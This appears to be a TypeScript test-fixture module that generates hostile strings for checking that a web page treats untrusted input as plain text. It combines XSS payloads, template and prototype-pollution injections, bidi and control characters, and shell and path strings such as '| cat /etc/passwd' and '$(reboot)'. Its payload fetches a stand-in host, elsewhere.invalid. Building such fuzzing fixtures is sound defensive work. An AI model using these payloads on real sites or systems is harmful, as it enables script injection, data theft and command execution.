/** What an attack would do first: it sets this on the window, or asks another host. */
export const STRUCK = "struck";
/** No page of ours ever asks this host for anything. */
export const ELSEWHERE = "elsewhere.invalid";

const ACT = `window.${STRUCK}=1;alert(1);fetch('//${ELSEWHERE}')`;
const ADDRESS = `//${ELSEWHERE}/a`;
const ELEMENTS = ["img", "video", "audio", "iframe", "object", "embed", "input", "body", "details", "marquee"];
const EVENTS = ["onerror", "onload", "onfocus", "onclick", "onpointerenter", "ontoggle", "onanimationstart", "onbegin"];
const PROTOTYPE = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "length"];
const CONTROLS = [0, 1, 7, 8, 9, 11, 12, 27, 127, 0x85, 0xad, 0x200b, 0x200d, 0x200e, 0x202e, 0x2028, 0x2066, 0xfeff];
const CODES = ["&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "\\x3cscript\\x3e"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "blob:", "file:///"];

/** Texts by their kind, each made of a few parts in all their combinations. */
const KINDS: Readonly<Record<string, readonly string[]>> = {
  script: ["", " async", " type=module", "/x", "\n", " nonce=a"].flatMap((attribute) =>
    ["", "]]>", '">', "'>", "</title>", "</textarea>", "-->"].map(
      (before) => `${before}<script${attribute}>${ACT}</script>`,
    ),
  ),
  event: ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} src=x ${event}="${ACT}" autofocus open>`)),
  svg: ["animate", "set", "foreignObject", "use", "a", "style", "image"].flatMap((inner) => [
    `<svg onload="${ACT}"><${inner} href="${ADDRESS}" onbegin="${ACT}"/></svg>`,
    `<math><${inner} xlink:href="javascript:${ACT}">x</${inner}></math>`,
  ]),
  address: SCHEMES.flatMap((scheme) => [
    `${scheme}${ACT}`,
    `<a href="${scheme}${ACT}">here</a>`,
    `[here](${scheme}${ACT})`,
    `<iframe src="${scheme}${ACT}">`,
  ]),
  fetched: [
    "img src",
    "link rel=stylesheet href",
    "script src",
    "base href",
    "source srcset",
    "form action",
    "track src",
  ].map((start) => `<${start}="${ADDRESS}">`),
  template: [
    `{${ACT}}`,
    `{@html "<img src=x onerror=${ACT}>"}`,
    `{#if true}${ACT}{/if}`,
    `{{${ACT}}}`,
    `\${${ACT}}`,
  ].concat([
    "<%= 7*7 %>",
    "#{7*7}",
    "{count}",
    "{name}",
    "{0}",
    "$&",
    "$1",
    "%s%n",
    "`$" + "{alert(1)}`",
    "<slot/>",
    "<svelte:head>",
  ]),
  direction: [0x202e, 0x202d, 0x2067, 0x2066, 0x200f, 0x061c].flatMap((code) =>
    ["<b>txt</b>", "gpj.exe", "يمين and left"].map((text) => `a${String.fromCodePoint(code)}${text} end`),
  ),
  control: CONTROLS.flatMap((code) => ["<scr", "say"].map((text) => `${text}${String.fromCodePoint(code)}ipt>${ACT}<`)),
  wide: [
    "👩‍👩‍👧‍👦".repeat(30),
    "🏳️‍🌈".repeat(50),
    "é̂̃̄̆̇̈".repeat(40),
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L".repeat(8),
    "﷽".repeat(100),
    "x".repeat(400),
    "W".repeat(400),
    "𝕏".repeat(190),
    "🀄".repeat(200),
  ],
  coded: CODES.flatMap((code) => [code, `${code}${ACT}`, `"${code}"`, `\\"${code}`, `{"type":"${code}"}`]),
  style: ["background:url", "@import url", "behavior:url", "-moz-binding:url", "list-style:url"].flatMap((start) => [
    `<style>*{${start}(${ADDRESS})}</style>`,
    `<p style="${start}(${ADDRESS})">p</p>`,
    `}*{${start}(${ADDRESS})}`,
  ]),
  prototype: PROTOTYPE.flatMap((name) => [name, `{"${name}":{"isAdmin":true}}`, `[[${name}]]`]),
  query: [
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "\\\\server\\share",
    "$(reboot)",
    "| cat /etc/passwd",
  ],
  frame: [
    '42["command",{}]',
    "2probe",
    '451-["x",{"_placeholder":true,"num":0}]',
    "[null]",
    "▢▢▢",
    "null",
    "undefined",
  ],
  broken: [
    "half a sign \ud800",
    "\udfff and on",
    "<b",
    "<!--",
    "<![CDATA[",
    "</",
    "&",
    "&#0;",
    "&#x110000;",
    "\\",
    "\u0000<b>",
  ],
};

/** So many texts that would break a page that took them for anything but text; some of each kind, and none is empty. */
export function hostileTexts(count: number): readonly string[] {
  const kinds = Object.values(KINDS);
  const longest = Math.max(...kinds.map(({ length }) => length));
  const inTurn = Array.from({ length: longest }, (_, place) => kinds.flatMap((texts) => texts.slice(place, place + 1)));
  return inTurn.flat().slice(0, count);
}
